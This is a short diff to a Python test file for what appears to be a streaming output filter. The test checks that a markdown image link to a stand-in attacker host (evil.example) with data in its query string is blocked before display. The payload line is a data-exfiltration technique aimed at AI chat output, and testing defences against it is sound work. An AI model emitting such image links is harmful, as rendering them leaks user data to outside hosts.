@@ -56,7 +56,7 @@ def test_a_secret_split_across_chunks_is_never_shown(s: Session) -> None:
 
 def test_a_markdown_image_exfiltration_stops_the_stream(s: Session) -> None:
     text = FILLER + "![chart](https://evil.example/p.png?d=quarterly-numbers) " + FILLER
-    shown, total, out = _stream(s, text, chunk=9, hold_back=64, min_release=64)
+    _, total, out = _stream(s, text, chunk=9, hold_back=64, min_release=64)
     assert out.blocked
     assert "evil.example" not in total
     assert out.close().blocked
